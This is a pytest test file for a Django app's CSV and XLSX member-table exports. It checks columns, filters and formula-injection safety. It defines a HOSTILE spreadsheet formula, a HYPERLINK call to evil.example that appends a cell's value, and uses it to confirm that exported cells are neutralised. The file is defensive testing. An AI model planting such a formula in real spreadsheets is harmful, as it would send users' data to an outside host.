"""CSV and XLSX exports of the member table: the rows shown, formula-safe."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from config.spreadsheets import csv_bytes
from organisations.exports import export_table
from tests.factories import audience_page, make_module
from tests.organisations.builders import (
    make_assignment,
    make_manager,
    make_member,
    make_organisation,
)
from tests.training.certificates.builders import (
    complete_module,
    issue,
    make_certificate_module,
)

pytestmark = pytest.mark.django_db
BACKEND = "allauth.account.auth_backends.AuthenticationBackend"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def org(home, client):
    organisation = make_organisation(name="Bay Clinic")
    client.force_login(make_manager(organisation, name="Mo"), backend=BACKEND)
    return organisation


def export(client, organisation, kind, **query):
    address = reverse("organisations:dashboard_export", args=[organisation.pk, kind])
    return client.get(address, query)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_has_status_completion_and_certificate(org, client):
    module = make_certificate_module()
    make_assignment(org, module)
    holder = make_member(org, name="Ada Holder", email="ada@example.org")
    complete_module(module, user=holder)
    certificate = issue(module, holder)
    response = export(client, org, "csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    rows = csv_rows(response)
    assert rows[0][:6] == ["Name", "Email", "Group", "Module", "Due", "Status"]
    [ada] = [row for row in rows if row[1] == "ada@example.org"]
    assert ada[5] == "Done"
    assert ada[6] and ada[7] == certificate.display_code


def test_every_cell_is_formula_safe(org, client):
    module = make_module(parent=audience_page("providers"), title=HOSTILE)
    make_assignment(org, module)
    make_member(org, name=HOSTILE, email="eve@example.org")
    for row in csv_rows(export(client, org, "csv"))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    sheet = load_workbook(io.BytesIO(export(client, org, "xlsx").content)).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells


def test_xlsx_matches_the_filters(org, client):
    module = make_module(parent=audience_page("providers"), lessons=1)
    make_assignment(org, module)
    make_member(org, name="Ana", email="ana@example.org")
    make_member(org, name="Ben", email="ben@example.org")
    response = export(client, org, "xlsx", q="ana")
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    emails = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert emails == ["ana@example.org"]


def test_an_unknown_format_is_not_found(org, client):
    assert export(client, org, "pdf").status_code == 404


def test_export_neutralises_each_cell():
    class Stub:
        pass

    row = Stub()
    row.membership = Stub()
    row.membership.group_id = None
    row.user = Stub()
    row.user.name, row.user.email = "+1 Name", "@mail"
    row.assignment = Stub()
    row.assignment.module = Stub()
    row.assignment.module.title = "-Title"
    row.due_on = row.completed_at = row.certificate_expires_on = None
    row.status_label, row.certificate_code = "Done", ""
    exported = csv_bytes(export_table([row])).decode("utf-8-sig").splitlines()
    assert exported[1].startswith("'+1 Name,'@mail,,'-Title,")
    assert csv_bytes([]).startswith(b"\xef\xbb\xbf")
